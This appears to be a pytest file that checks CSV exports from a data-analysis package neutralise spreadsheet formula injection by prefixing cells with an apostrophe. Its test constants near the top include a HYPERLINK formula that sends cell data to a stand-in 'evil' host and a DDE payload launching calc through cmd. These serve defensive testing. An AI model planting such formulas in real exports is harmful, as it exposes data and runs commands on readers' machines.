"""CSV that we write is shown by a spreadsheet, and not computed by it."""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace
from typing import Any

import numpy as np
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from colonnade.analysis.model import FittedModel
from colonnade.foundation.names import plain_cell
from colonnade.foundation.schema import Schema
from colonnade.model import PublicModel, Scores, scores_csv
from colonnade.report.answers.crosstables import tables_csv
from colonnade.report.answers.rows import rows_file

EVIL = '=HYPERLINK("http://evil/?"&A1,"ok")'
FORMULAS = (EVIL, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1+1", "+1 2", "--1", "-1e")
NUMBERS = ("-1", "+1", "-0.5", "+4930123", "-3e5", "1")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert plain_cell(text) == f"'{text}"
    assert plain_cell(f"'{text}") == f"''{text}", "or two texts would become one"


@pytest.mark.parametrize("text", [*NUMBERS, "", "yes", "a=b", "'quoted'", "x-1", "1=1"])
def test_anything_else_stays(text: str) -> None:
    assert plain_cell(text) == text


@given(st.lists(st.text("='+-@1e. \t", max_size=5), unique=True))
def test_no_two_texts_become_one(texts: list[str]) -> None:
    assert len({plain_cell(text) for text in texts}) == len(texts)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def require_plain(text: str) -> None:
    for row in cells(text):
        for cell in row:
            assert plain_cell(cell) == cell or cell.startswith("'"), cell


def schema(level: str, column: str = "y") -> Schema:
    return Schema.of({"a": {"x": {"kind": "numeric", "low": 0, "high": 1}}, "b": {column: levels("no", level)}})


def levels(*names: str) -> dict[str, Any]:
    return {"kind": "binary" if len(names) == 2 else "categorical", "levels": list(names)}


def test_scores_are_plain_and_numbers_stay_numbers() -> None:
    model = FittedModel("logistic", f"y={EVIL}", ("x",), ((1.0,),), (0.0,), "default", 0.0, 1.0, 0.0)
    public = PublicModel(model, "s", schema(EVIL), "y", "")
    text = scores_csv(public, Scores(["+1", EVIL, "'=1"], np.array([0.9, 0.1, 0.6])), "=id")
    require_plain(text)
    assert cells(text) == [
        ["'=id", "probability", "predicted"],
        ["+1", "0.9", f"'{EVIL}"],
        [f"'{EVIL}", "0.1", "no"],
        ["''=1", "0.6", f"'{EVIL}"],
    ]
    linear = PublicModel(
        FittedModel("linear", "x", ("x",), ((1.0,),), (0.0,), "default", 0.0, 1.0, 0.0), "s", schema("yes"), "x", ""
    )
    assert cells(scores_csv(linear, Scores(["p"], np.array([-0.5])), "id"))[1] == ["p", "-0.5"]


def test_classes_in_scores_are_plain() -> None:
    public = SimpleNamespace(model=SimpleNamespace(classes=(EVIL, "b")))
    text = scores_csv(public, Scores(["p"], np.array([[0.8, 0.2]])), "id")  # type: ignore[arg-type]
    require_plain(text)
    assert cells(text)[1][-1] == f"'{EVIL}"


def test_drawn_rows_are_plain_in_csv_and_as_they_are_in_parquet() -> None:
    rows: Any = SimpleNamespace(values={"=y": [EVIL, "-1"], "x": np.array([-1.0, 0.5])})
    text = rows_file(rows, ["=note"], csv=True).decode()
    require_plain(text)
    assert cells(text) == [["'=y", "x"], [f"'{EVIL}", "-1.0"], ["-1", "0.5"]]
    frame = pl.read_parquet(io.BytesIO(rows_file(rows, [], csv=False)))
    assert frame["=y"].to_list() == [EVIL, "-1"]


def test_tables_are_plain() -> None:
    one = np.ones(2)
    margin = SimpleNamespace(name="@y", owner="a", levels=(EVIL, "-1"), count=one, low=-one, high=one)
    cross = SimpleNamespace(
        names=("@y", "=z"), rows=(EVIL, "b"), columns=("+c|d", "d"), count=np.eye(2), low=-np.eye(2), high=np.eye(2)
    )
    tables: Any = SimpleNamespace(
        released=SimpleNamespace(
            tabular=(0, 1), counted=(0, 1), tables=((0, 1),), numbers=(), has_table=lambda i, j: True
        ),
        margin=lambda i: margin,
        cross=lambda i, j: cross,
    )
    text = tables_csv(tables, [])
    require_plain(text)
    assert cells(text)[1] == ["'@y", f"'{EVIL}", "", "", "1.0", "-1.0", "1.0"]
